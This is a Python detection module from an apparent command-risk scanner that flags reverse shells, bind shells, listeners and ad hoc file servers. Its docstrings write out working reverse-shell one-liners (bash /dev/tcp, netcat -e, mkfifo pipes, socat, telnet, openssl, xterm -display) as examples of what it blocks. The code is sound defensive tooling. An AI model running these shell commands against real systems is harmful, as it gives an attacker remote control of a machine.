"""Reverse shells, bind shells and listeners."""

from __future__ import annotations

import re
from collections.abc import Iterator

from commandrisk.hits import Hit
from commandrisk.models import Category
from commandrisk.rules.base import BLOCK, WARN, every, hit, nested_hits, on, whole
from commandrisk.walker import SHELLS, Scan, SimpleCommand

SHELL_NET = Category.REVERSE_SHELL
NETCATS = ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat")
_DEV_NET = re.compile(r"^/dev/(tcp|udp)/")
_SHELL_PATH = re.compile(r"(^|/)(ba|da|z|k|c|tc|fi|a)?sh\b|cmd\.exe|powershell")


@every
def dev_tcp(cmd: SimpleCommand, scan: Scan) -> Iterator[Hit]:
    """`bash -i >& /dev/tcp/host/port 0>&1`, `exec 5<>/dev/tcp/host/port`."""
    targets = [r.target for r in cmd.redirects if _DEV_NET.match(r.target)]
    targets += [a for a in cmd.args if _DEV_NET.match(a)]
    if not targets:
        return
    shells = cmd.name in SHELLS or cmd.name in ("", "exec") or any(c.name in SHELLS for c in scan.commands)
    if shells:
        yield hit(cmd, SHELL_NET, "revshell.dev_tcp", BLOCK, 100,
                  f"connects a shell to {targets[0]}", "T1059.004")
    else:
        yield hit(cmd, SHELL_NET, "net.dev_tcp", WARN, 50, f"opens a raw socket via {targets[0]}", "T1095")


@on(*NETCATS)
def netcat(cmd: SimpleCommand, scan: Scan) -> Iterator[Hit]:
    """`nc -e /bin/sh host port`, `nc -lvnp 4444`, `mkfifo f; sh -i < f | nc host port > f`."""
    args = cmd.args
    joined = " ".join(args)
    program = _exec_program(args)
    if program is not None:
        inner = nested_hits(program, cmd, scan)
        if _SHELL_PATH.search(program.split()[0] if program.split() else "") or any(h.verdict == BLOCK for h in inner):
            yield hit(cmd, SHELL_NET, "revshell.netcat_exec", BLOCK, 100, f"{cmd.name} hands a shell to the network",
                      "T1059.004")
        else:
            yield hit(cmd, SHELL_NET, "net.netcat_exec_program", WARN, 50,
                      f"{cmd.name} connects {program.split()[0] if program.split() else 'a program'} to the network",
                      "T1571")
        return
    peers = cmd.upstream() + cmd.downstream()
    if any(p.name in SHELLS or _SHELL_PATH.search(p.argv[0] if p.argv else "") for p in peers):
        yield hit(cmd, SHELL_NET, "revshell.netcat_pipeline", BLOCK, 100, f"pipes a shell through {cmd.name}",
                  "T1059.004")
        return
    if re.search(r"(^|\s)-\w*l", joined) or "--listen" in args:
        yield hit(cmd, SHELL_NET, "net.listener", WARN, 45, f"{cmd.name} listens for inbound connections", "T1571")


def _exec_program(args: list[str]) -> str | None:
    """The program given to `nc -e PROG` / `-c CMD` / `--exec` / `--sh-exec`, if any."""
    for i, arg in enumerate(args):
        key, eq, value = arg.partition("=")
        if key in ("--exec", "--sh-exec", "--lua-exec") and eq:
            return value
        if arg in ("-e", "-c", "--exec", "--sh-exec", "--lua-exec") and i + 1 < len(args):
            return args[i + 1]
        if re.fullmatch(r"-[a-zA-Z]*[ec]", arg) and i + 1 < len(args):
            return args[i + 1]
    return None


@on("socat")
def socat(cmd: SimpleCommand, scan: Scan) -> Iterator[Hit]:
    """`socat TCP:host:port EXEC:/bin/sh`, `socat TCP-LISTEN:4444 SYSTEM:bash`."""
    joined = " ".join(cmd.args).lower()
    if re.search(r"\b(exec|system):", joined) or (re.search(r"\btcp", joined) and "pty" in joined):
        yield hit(cmd, SHELL_NET, "revshell.socat_exec", BLOCK, 100, "socat connects a program to a socket", "T1059.004")
    elif "listen" in joined:
        yield hit(cmd, SHELL_NET, "net.listener", WARN, 45, "socat listens for inbound connections", "T1571")


@on("telnet")
def telnet(cmd: SimpleCommand, scan: Scan) -> Iterator[Hit]:
    """`telnet host 4444 | /bin/sh | telnet host 4445`."""
    if any(p.name in SHELLS for p in cmd.upstream() + cmd.downstream()):
        yield hit(cmd, SHELL_NET, "revshell.telnet_pipeline", BLOCK, 100, "pipes a shell through telnet", "T1059.004")


@on("xterm")
def xterm(cmd: SimpleCommand, scan: Scan) -> Iterator[Hit]:
    """`xterm -display attacker:1` opens a terminal on a remote X server."""
    for i, arg in enumerate(cmd.args[:-1]):
        if arg == "-display" and not cmd.args[i + 1].startswith(":"):
            yield hit(cmd, SHELL_NET, "revshell.xterm_display", BLOCK, 90, "opens a shell on a remote display", "T1059.004")


@whole
def fifo_shell(scan: Scan) -> Iterator[Hit]:
    """`mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc host port > /tmp/f` split over lists."""
    names = {c.name for c in scan.commands}
    if ("mkfifo" in names or "mknod" in names) and names & set(NETCATS + ("telnet", "openssl")) and names & SHELLS:
        cmd = next(c for c in scan.commands if c.name in ("mkfifo", "mknod"))
        yield hit(cmd, SHELL_NET, "revshell.fifo", BLOCK, 100, "wires a shell to the network through a named pipe",
                  "T1059.004")


@on("openssl")
def openssl_shell(cmd: SimpleCommand, scan: Scan) -> Iterator[Hit]:
    """`openssl s_client -connect host:port | /bin/sh | openssl s_client ...`."""
    if cmd.args and cmd.args[0] == "s_client" and any(p.name in SHELLS for p in cmd.upstream() + cmd.downstream()):
        yield hit(cmd, SHELL_NET, "revshell.openssl", BLOCK, 100, "pipes a shell through an encrypted socket", "T1059.004")


HTTP_SERVER_MODULES = frozenset({"http.server", "SimpleHTTPServer", "pyftpdlib", "smtpd", "uploadserver"})


@on("python", "python2", "python3", "php", "ruby", "busybox")
def ad_hoc_server(cmd: SimpleCommand, scan: Scan) -> Iterator[Hit]:
    """`python3 -m http.server`, `php -S 0.0.0.0:80`: serve the current directory to the network."""
    args = cmd.args
    serving = (
        ("-m" in args and args.index("-m") + 1 < len(args) and args[args.index("-m") + 1] in HTTP_SERVER_MODULES)
        or (cmd.name == "php" and "-S" in args)
        or (cmd.name == "ruby" and "httpd" in " ".join(args))
        or (cmd.name == "busybox" and args[:1] == ["httpd"])
    )
    if serving:
        yield hit(cmd, SHELL_NET, "net.file_server", WARN, 40, "serves local files to the network", "T1571")
